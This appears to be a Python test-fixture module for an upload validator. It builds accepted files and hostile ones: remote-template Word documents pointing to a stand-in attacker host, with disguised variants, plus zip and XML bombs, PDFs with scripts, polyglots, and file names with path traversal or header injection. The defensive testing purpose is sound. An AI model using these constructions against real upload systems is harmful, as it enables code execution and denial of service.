"""Documents somebody may send: good ones, and ones made to harm."""

import io
import struct
import zipfile
import zlib

from tests.resources.files import PAYLOAD, SVG, archive, noisy, png, saved

_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">%s</Types>'
_MACROS = b'<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
_LINKS = b'<?xml version="1.0"?><Relationships>%s</Relationships>'
_TEMPLATE = (
    b'<Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://evil.example.org/t.dotm" TargetMode="External"/>'
)
# The same, as another program may write it, and as somebody writes it who does not want it found.
_DISGUISED = {
    "with its letters as numbers": _TEMPLATE.replace(b'"External', b'"&#69;xternal'),
    "with a prefix": _TEMPLATE.replace(b"<Relationship", b'<r:Relationship xmlns:r="u"'),
    "that looks like a link": _TEMPLATE.replace(b'Id="a"', b'Id="/relationships/hyperlink"'),
    "that is a link with a prefix": _TEMPLATE.replace(
        b'Id="a"', b'xmlns:x="u" x:Type="/relationships/hyperlink" x:TargetMode="Internal"'
    ),
    "behind a bracket": _TEMPLATE.replace(b'Id="a"', b'Id="a>"'),
}
_CONTROL = (
    b'<Relationship Id="a" Type="http://schemas.openxmlformats.org/relationships/ole&#79;bject" Target="a"/>'
)
_LINK = (
    b'<Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
    b'Target="http://example.org/" TargetMode="External"/>'
)
_LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)


def pdf(
    *, extra: bytes = b"", catalogue: bytes = b"", head: bytes = b"%PDF-1.4\n", tail: bytes = b""
) -> bytes:
    """A small PDF of one empty page."""
    body = (
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + catalogue + b" >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n" + extra
    )
    return head + body + b"trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n9\n%%EOF\n" + tail


def stream(content: bytes, description: bytes = b"") -> bytes:
    """An object that holds a packed stream."""
    packed = zlib.compress(content, 9)
    size = str(len(packed)).encode()
    head = b"4 0 obj\n<< /Filter /FlateDecode /Length " + size + b" " + description
    return head + b" >>\nstream\n" + packed + b"\nendstream\nendobj\n"


def docx(more: dict[str, bytes] | None = None, types: bytes = b"", **how) -> bytes:
    """A Word file, with other parts in it."""
    parts = {"[Content_Types].xml": _TYPES % types, "word/document.xml": b"<w:document/>", **(more or {})}
    return archive(parts, **how)


def xlsx(more: dict[str, bytes] | None = None) -> bytes:
    """An Excel file, with other parts in it."""
    return archive({"[Content_Types].xml": _TYPES % b"", "xl/workbook.xml": b"<workbook/>", **(more or {})})


def odt(more: dict[str, bytes] | None = None) -> bytes:
    """An OpenDocument text, with other parts in it."""
    mark = b"application/vnd.oasis.opendocument.text"
    return archive({"mimetype": mark, "content.xml": b"<office/>", **(more or {})})


def overlapping() -> bytes:
    """A Word file whose list names one part of it a hundred times: each time it is unpacked anew."""
    file = bytearray(docx({"word/media/a.xml": bytes(1_000_000)}))
    end = file.rindex(b"PK\5\6")
    count, size, at = struct.unpack("<HLL", file[end + 10 : end + 20])
    listing = bytes(file[at : at + size])
    last = listing[listing.rindex(b"PK\1\2") :]
    copies = b"".join(last.replace(b"media/a", b"media/%s" % bytes([65 + n])) for n in range(26))
    end_part = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count + 26, count + 26, size + len(copies), at, 0)
    return bytes(file[:at]) + listing + copies + end_part


def lying() -> bytes:
    """A Word file with a part of 200 MB that says it has a hundred bytes."""
    file = bytearray(docx({"word/big.bmp": bytes(200 * 2**20)}))
    real = struct.pack("<L", 200 * 2**20)
    return bytes(file.replace(real, struct.pack("<L", 100)))


def locked() -> bytes:
    """A Word file whose parts are said to be encrypted."""
    file = bytearray(docx())
    at = 0
    while (at := file.find(b"PK\1\2", at)) >= 0:
        file[at + 8] |= 1
        at += 4
    return bytes(file)


def packed(method: int, *, damaged: bool = False) -> bytes:
    """A Word file of which one part is packed another way."""
    file = io.BytesIO(docx())
    part = zipfile.ZipInfo("word/media/a.xml")
    part.compress_type = method
    with zipfile.ZipFile(file, "a") as made:
        made.writestr(part, b"<a/>" * 1000)
    content = bytearray(file.getvalue())
    if damaged:
        # Of LZMA, the byte that says how it was packed.
        content[content.index(b"a.xml") + len(b"a.xml") + 4] = 0xFF
    return bytes(content)


def good() -> dict[str, tuple[str, bytes]]:
    """Files that are taken, each with a name that fits."""
    png_file = saved(noisy(120, 90), "PNG")
    return {
        "PDF": ("手册 manual.pdf", pdf()),
        "PDF with packed objects": (
            "a.PDF",
            pdf(extra=stream(b"5 0 << /Type /Font >>", b"/Type /ObjStm /N 1")),
        ),
        "PDF with a picture that holds odd letters": ("a.pdf", pdf(extra=stream(b"/JS /JavaScript? no"))),
        # What a careless search would go through again and again.
        "PDF of nothing but brackets": ("a.pdf", pdf(extra=b"<<" * 1_000_000 + b"stream\n" * 1_000_000)),
        "text": ("a.txt", "安全说明\r\n第一页\f\t完".encode()),
        "text with its mark": ("a.txt", "安全".encode("utf-8-sig")),
        "text of a Chinese office": ("表.csv", "名称,数量\n显微镜,2\n".encode("gb18030")),
        "notes": ("read.md", b"# Title\n\n1 < 2\n"),
        "Word": ("模板.docx", docx({"word/_rels/document.xml.rels": _LINKS % _LINK})),
        "Word about macros": (
            "a.docx",
            docx({"word/footnotes.xml": b"<w>How to keep macroEnabled files out</w>"}),
        ),
        "Excel with settings of a printer": (
            "a.xlsx",
            xlsx({"xl/printerSettings/printerSettings1.bin": b"\0\1"}),
        ),
        "OpenDocument": ("a.odt", odt()),
        "JPEG": ("a.jpeg", saved(noisy(120, 90), "JPEG")),
        "PNG": ("a.png", png_file),
        "WebP": ("a.webp", saved(noisy(120, 90), "WEBP")),
    }


def hostile() -> dict[str, tuple[str, bytes, str]]:
    """Files that are refused, by what they are: their name, their bytes, and the code of the finding."""
    jpeg, small_png = saved(noisy(120, 90), "JPEG"), saved(noisy(120, 90), "PNG")
    gif = b"GIF89a" + bytes(200)
    zipped = archive({"a.txt": b"x"})
    told = (b"zTXt", b"Comment\0\0" + zlib.compress(bytes(200 * 2**20), 9))
    bomb = docx({"word/media/a.xml": bytes(150 * 2**20)})
    return {
        "nothing": ("a.pdf", b"", "file_missing"),
        "eleven megabytes": ("a.txt", b"x" * (11 * 2**20), "file_too_heavy"),
        "no name": (" ", b"text", "file_missing"),
        "a way out of the folder": ("../../etc/passwd.txt", b"text", "file_name_unusable"),
        "a way of Windows": ("C:\\boot.txt", b"text", "file_name_unusable"),
        "a hidden name": (".htaccess.txt", b"text", "file_name_unusable"),
        "a name that turns round": ("invoice\u202efdp.txt", b"text", "file_name_unusable"),
        "a name with a zero": ("a.txt\0.pdf", b"text", "file_name_unusable"),
        "a name of two lines": ("a\r\nSet-Cookie: x.txt", b"text", "file_name_unusable"),
        "a huge name": ("长" * 200 + ".txt", b"text", "file_name_too_long"),
        "a name without an ending": ("manual", b"text", "file_unknown_kind"),
        "a program": ("a.exe", b"MZ\x90\0\3\0\0\0", "file_unknown_kind"),
        "a program called PDF": ("a.pdf", b"MZ\x90\0\3\0\0\0", "file_unknown_kind"),
        "an ending in capitals that does not fit": ("a.PDF", b"text", "file_other_kind"),
        "a PNG called JPEG": ("a.jpg", small_png, "file_other_kind"),
        "a Word file called Excel": ("a.xlsx", docx(), "file_other_kind"),
        "a drawing with a script": ("a.svg", SVG, "file_is_page"),
        "a drawing with a script called PNG": ("a.png", SVG, "file_is_page"),
        "a drawing behind a mark and blanks": ("a.txt", b"\xef\xbb\xbf \n" + SVG, "file_is_page"),
        "a page": ("a.txt", b"<!DOCTYPE html><p>", "file_is_page"),
        "a page further down": ("a.txt", b"Hello\n" + PAYLOAD, "file_is_page"),
        "a GIF": ("a.gif", gif, "file_unknown_kind"),
        "a GIF and an archive": ("a.docx", gif + zipped, "file_is_two_things"),
        "a PDF and a page": (
            "a.pdf",
            pdf(head=b"%PDF-1.4\n<html><script>x</script>\n"),
            "file_is_two_things",
        ),
        "a page and a PDF": ("a.pdf", b"<html><!--" + pdf(), "file_is_two_things"),
        "a PDF and an archive": ("a.pdf", pdf() + zipped, "file_is_two_things"),
        "a PDF and an archive before its end": ("a.pdf", pdf(tail=zipped + b"%%EOF"), "file_is_two_things"),
        "a PDF with something behind": ("a.pdf", pdf(tail=b"MZ\x90"), "file_is_two_things"),
        "half a PDF": ("a.pdf", pdf()[:60], "file_damaged"),
        "a PDF with a script": (
            "a.pdf",
            pdf(catalogue=b"/OpenAction << /S /JavaScript /JS (x) >>"),
            "file_has_program",
        ),
        "a PDF with a script spelt oddly": (
            "a.pdf",
            pdf(catalogue=b"/AA << /S /J#61vaScript >>"),
            "file_has_program",
        ),
        "a PDF with a packed script": (
            "a.pdf",
            pdf(extra=stream(b"5 0 << /S /JavaScript /JS (x) >>", b"/Type /ObjStm /N 1")),
            "file_has_program",
        ),
        "a PDF that starts a program": (
            "a.pdf",
            pdf(catalogue=b"/OpenAction << /S /Launch >>"),
            "file_has_program",
        ),
        "a PDF with a file inside": (
            "a.pdf",
            pdf(catalogue=b"/Names << /EmbeddedFiles 5 0 R >>"),
            "file_has_program",
        ),
        "a PDF with a password": (
            "a.pdf",
            pdf(extra=b"5 0 obj << /Encrypt 6 0 R >> endobj\n"),
            "file_is_locked",
        ),
        "a PDF that unpacks without end": (
            "a.pdf",
            pdf(extra=stream(bytes(64 * 2**20), b"/Type /ObjStm /N 1")),
            "file_unpacks_without_end",
        ),
        "a Word file with macros": ("a.docx", docx({"word/vbaProject.bin": b"\0"}), "file_has_program"),
        "a Word file that says it has macros": ("a.docx", docx(types=_MACROS), "file_has_program"),
        "a Word file with a control": (
            "a.docx",
            docx({"word/activeX/activeX1.xml": b"<ax/>"}),
            "file_has_program",
        ),
        "a Word file with a program": (
            "a.docx",
            docx({"word/embeddings/oleObject1.bin": b"\0"}),
            "file_has_program",
        ),
        "a Word file with a template from elsewhere": (
            "a.docx",
            docx({"word/_rels/settings.xml.rels": _LINKS % _TEMPLATE}),
            "file_has_program",
        ),
        **{
            f"a Word file with a template from elsewhere {how}": (
                "a.docx",
                docx({"word/_rels/settings.xml.rels": _LINKS % template}),
                "file_has_program",
            )
            for how, template in _DISGUISED.items()
        },
        "a Word file with a template from elsewhere under another name": (
            "a.docx",
            docx({"word/_rels/settings.xml.%72els": _LINKS % _DISGUISED["with a prefix"]}),
            "file_has_program",
        ),
        "a Word file with a template from elsewhere in UTF-16": (
            "a.docx",
            docx(
                {"word/_rels/a.rels": (b"<a>%s</a>" % _DISGUISED["with a prefix"]).decode().encode("utf-16")}
            ),
            "file_has_program",
        ),
        "a Word file with a control in disguise": (
            "a.docx",
            docx({"word/_rels/document.xml.rels": _LINKS % _CONTROL}),
            "file_has_program",
        ),
        "a Word file whose links are none": (
            "a.docx",
            docx({"word/_rels/document.xml.rels": b"<relationship " * 200_000}),
            "file_damaged",
        ),
        "a Word file whose links nobody can decode": (
            "a.docx",
            docx({"word/_rels/document.xml.rels": b'<?xml version="1.0" encoding="none-such"?><a/>'}),
            "file_damaged",
        ),
        "a Word file of sixty megabytes of links": (
            "a.docx",
            docx({"word/_rels/document.xml.rels": b"<relationship " * 4_500_000}),
            "file_unpacks_without_end",
        ),
        "a Word file of one link that never ends": (
            "a.docx",
            docx({"word/_rels/document.xml.rels": b"<relationship " + b"a" * (4 * 2**20 - 20)}),
            "file_damaged",
        ),
        "a Word file packed by LZMA": ("a.docx", packed(zipfile.ZIP_LZMA), "file_damaged"),
        "a Word file packed by LZMA and damaged": (
            "a.docx",
            packed(zipfile.ZIP_LZMA, damaged=True),
            "file_damaged",
        ),
        "a Word file packed by BZIP2": ("a.docx", packed(zipfile.ZIP_BZIP2), "file_damaged"),
        "an Excel file with old macros": (
            "a.xlsx",
            xlsx({"xl/macrosheets/sheet1.xml": b"<m/>"}),
            "file_has_program",
        ),
        "an OpenDocument with macros": (
            "a.odt",
            odt({"Basic/Standard/Module1.xml": b"<m/>"}),
            "file_has_program",
        ),
        "an old Word file": ("a.doc", OLD_OFFICE, "file_is_old_office"),
        "an old Word file called new": ("a.docx", OLD_OFFICE, "file_is_old_office"),
        "an archive": ("a.zip", zipped, "file_is_archive"),
        "an archive called Word": ("a.docx", zipped, "file_is_archive"),
        "a Word file of two kinds": ("a.docx", docx({"xl/workbook.xml": b"<x/>"}), "file_is_archive"),
        "a Word file with something before it": ("a.docx", b"PK\3\4" + docx(), "file_is_two_things"),
        "a Word file with something behind it": ("a.docx", docx() + b"MZ", "file_is_two_things"),
        "a Word file that leads elsewhere": ("a.docx", docx({"../../evil.xml": b"<x/>"}), "file_damaged"),
        "a Word file that leads to the root": ("a.docx", docx({"/etc/passwd": b"x"}), "file_damaged"),
        "a Word file that unpacks without end": ("a.docx", bomb, "file_unpacks_without_end"),
        "a Word file that lies about its size": ("a.docx", lying(), "file_damaged"),
        "a Word file that is unpacked again and again": ("a.docx", overlapping(), "file_unpacks_without_end"),
        "a Word file that laughs": ("a.docx", docx({"word/a.xml": _LAUGHS}), "file_unpacks_without_end"),
        "a Word file that laughs in UTF-16": (
            "a.docx",
            docx({"word/a.xml": _LAUGHS.decode().encode("utf-16")}),
            "file_unpacks_without_end",
        ),
        "a Word file with a password": ("a.docx", locked(), "file_is_locked"),
        "half a Word file": ("a.docx", docx()[:100], "file_damaged"),
        "a JPEG and an archive": ("a.jpg", jpeg + zipped, "file_is_two_things"),
        "a JPEG and a page": ("a.jpg", jpeg + PAYLOAD + b"\xff\xd9", "file_is_two_things"),
        "a JPEG and a PDF": (
            "a.jpg",
            jpeg[:2] + b"\xff\xfe\0\x0c%PDF-1.4\n" + jpeg[2:],
            "file_is_two_things",
        ),
        "a PNG with something behind": ("a.png", small_png + b"more", "file_is_two_things"),
        "half a PNG": ("a.png", small_png[: len(small_png) // 2], "file_is_two_things"),
        "a PNG of ten gigabytes": ("a.png", png(100_000, 100_000, rows=bytes(2**20)), "file_too_many_pixels"),
        "a PNG a little too large": ("a.png", png(4097, 100, rows=bytes(2**20)), "file_too_many_pixels"),
        "a PNG that tells a lot": (
            "a.png",
            png(600, 600, rows=bytes(360_600), before=[told]),
            "file_damaged",
        ),
        "a PNG with a flaw": ("a.png", png(600, 600, rows=b"\xff" * 5), "file_damaged"),
        "letters that are none": ("a.txt", b"\xff\xfe\x80\x81\xff", "file_unknown_kind"),
        "a text with a bell": ("a.txt", b"ding \7", "file_unknown_kind"),
    }
